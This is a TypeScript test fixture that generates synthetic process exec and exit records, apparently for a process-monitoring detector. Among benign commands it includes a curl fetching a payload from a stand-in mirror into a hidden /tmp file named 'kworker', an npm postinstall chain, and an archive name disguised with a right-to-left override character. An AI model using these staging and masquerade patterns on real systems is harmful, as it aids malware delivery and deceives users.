/** Processes that a test makes up: each with a start time of its own, and the records of its life. */
import type { RecordSpec, Task } from './records.ts';

export interface Life {
  readonly task: Task;
  exec(...args: readonly string[]): RecordSpec;
  exit(status?: number): RecordSpec;
}

let nextPid = 3_000_000;

/** @param program absolute path of its executable. */
export function makeProcess(program: string, parent?: Life, uid = 0): Life {
  const now = Number(process.hrtime.bigint());
  const task: Task = {
    pid: nextPid++,
    ppid: parent?.task.pid ?? 1,
    startNs: now,
    parentStartNs: parent?.task.startNs ?? 1,
    comm: program.split('/').at(-1) ?? program,
    uid,
  };
  return {
    task,
    exec: (...args) => ({ type: 'exec', task, executable: program, args, cwd: '/home/alex/src/beacon' }),
    exit: (status = 0) => ({ type: 'exit', task, status, runNs: 1_840_000_000, maxRss: 212 << 20 }),
  };
}

/** As much of an ordinary morning as fills a window. */
export function ordinaryWork(): readonly RecordSpec[] {
  const shell = makeProcess('/usr/bin/bash');
  const npm = makeProcess('/usr/bin/npm', shell);
  const sh = makeProcess('/usr/bin/sh', npm);
  const node = makeProcess('/usr/bin/node', sh);
  const lives: RecordSpec[] = [
    shell.exec('bash', '--login'),
    npm.exec('node', '/usr/bin/npm', 'install', 'color-stream@2.4.1'),
    sh.exec('sh', '-c', 'node scripts/postinstall.js'),
    node.exec('node', 'scripts/postinstall.js'),
  ];
  const commands = [
    ['/usr/bin/git', 'git', 'status', '--porcelain=v2', '--branch'],
    ['/usr/bin/rg', 'rg', '--json', '--hidden', '-g', '!.git', 'reserve_record'],
    ['/usr/bin/curl', 'curl', '-fsSL', '-o', '/tmp/.npm-a41f/kworker', 'https://cdn.pkgmirror.example/u9'],
    ['/usr/libexec/cc1plus', 'cc1plus', '-quiet', '-O2', 'batch.cc'],
    ['/usr/bin/ssh', 'ssh', 'git@git.hazel.lan', "git-upload-pack 'merlon.git'"],
    ['/usr/bin/unzip', 'unzip', '/home/alex/Downloads/invoice\u202efdp.desktop'],
  ];
  for (let round = 0; round < 8; round += 1) {
    for (const [program = '', ...args] of commands) {
      const one = makeProcess(program, round % 2 === 0 ? shell : node);
      lives.push(one.exec(...args));
      if (round % 3 !== 2) lives.push(one.exit(round === 4 ? 9 : round === 3 ? 1 << 8 : 0));
    }
  }
  lives.push({ type: 'exec_failed', task: node.task, error: 2, path: '/usr/local/bin/tput' });
  return lives;
}
